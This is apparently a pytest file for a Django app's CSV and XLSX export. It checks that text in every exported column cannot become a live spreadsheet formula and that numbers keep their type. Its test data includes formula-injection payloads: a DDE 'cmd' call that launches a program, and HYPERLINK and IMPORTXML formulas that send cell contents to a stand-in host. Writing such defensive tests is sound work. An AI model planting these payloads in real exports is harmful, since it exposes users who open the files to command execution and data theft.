"""G16: texts that a spreadsheet would run, in every column of every list that can be exported: none is live; numbers stay numbers."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.urls import get_resolver

from qms.ui.columns import Column
from qms.ui.export import Cover, rows_of, write
from qms.ui.listspec import LISTS, ListSpec

PROVES = ("G16",)
pytestmark = pytest.mark.django_db
SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "  @", "\t", "\r", "\n")
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x/?"&A1,"x")',
    "SUM(1)*cmd",
    'IMPORTXML("http://x","//a")',
    "A1",
)
TEXTS = [sign + payload for sign in SIGNS for payload in PAYLOADS]
NUMBERS = [Decimal("-1.5"), Decimal("12.000001"), -3, 0, Decimal("-0.5")]
COVER = Cover("=1+1", "@x", "-x", "+y", datetime.datetime(2026, 5, 4, tzinfo=datetime.UTC))
LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def specs() -> list[ListSpec]:
    """Every list that a route shows."""
    get_resolver()._populate()
    return list(LISTS.values())


class Wild(str):
    """A row, and whatever is asked of it: the hostile text."""

    def __getattr__(self, name: str) -> Any:
        if name.startswith("__"):
            raise AttributeError(name)
        return Wild(str(self))


class Rows:
    def __init__(self, values: list[Any]) -> None:
        self.values = values

    def iterator(self, chunk_size: int) -> Any:
        return iter(self.values)


def columns() -> list[Column]:
    """Every exported column; those that tell a time, a number or a state have no text of a stranger's."""
    found = [column for spec in specs() for column in spec.columns if column.exported]
    return [column for column in found if column.kind in ("text", "record", "link", "user")]


def test_the_corpus_and_the_columns_are_many():
    assert len(TEXTS) >= 60 and len(columns()) >= 100


def hostile(column: Column) -> Column:
    """The column as it is, about rows that say nothing else."""
    source = (lambda row: str(row)) if callable(column.source) else column.source
    return Column(
        name=column.name, label=column.label, kind=column.kind, source=source or "text", choices=column.choices
    )


def test_no_formula_is_live_in_any_column():
    wide = [hostile(column) for column in columns()]
    rows = Rows([Wild(text) for text in TEXTS])
    given = write("csv", rows, wide, COVER)
    text = given.file.read().decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for line in lines for cell in line]
    assert len(cells) >= len(wide) * len(TEXTS)
    assert [cell for cell in cells if cell.lstrip(" ").startswith(LIVE)] == []
    assert '"' in text and all(line[0] for line in lines)


def test_sheets_hold_texts_as_texts():
    wide = [hostile(column) for column in columns()]
    given = write("xlsx", Rows([Wild(text) for text in TEXTS]), wide, COVER)
    content = given.file.read()
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        for part in packed.namelist():
            found = packed.read(part)
            assert (
                b"<f>" not in found
                and b"<f " not in found
                and b"hyperlink" not in found
                and b"externalLink" not in found
            )
    book = openpyxl.load_workbook(io.BytesIO(content))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds <= {"s", "n"} and "f" not in kinds


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number):
    column = Column("n", "n", "number", source=lambda row: row)
    [line] = list(
        csv.reader(io.StringIO(write("csv", Rows([number]), [column], COVER).file.read().decode("utf-8-sig")))
    )[1:2]
    assert Decimal(line[0]) == number
    book = openpyxl.load_workbook(io.BytesIO(write("xlsx", Rows([number]), [column], COVER).file.read()))
    cell = book.worksheets[0]["A2"]
    assert cell.data_type == "n" and Decimal(str(cell.value)) == number


def test_a_number_as_text_stays_what_it_is():
    column = Column("n", "n", "text", source=str)
    told = list(rows_of(Rows(["-1.5"]), [column]))
    assert told == [["-1.5"]]
    assert '"-1.5"' in write("csv", Rows(["-1.5"]), [column], COVER).file.read().decode("utf-8-sig")
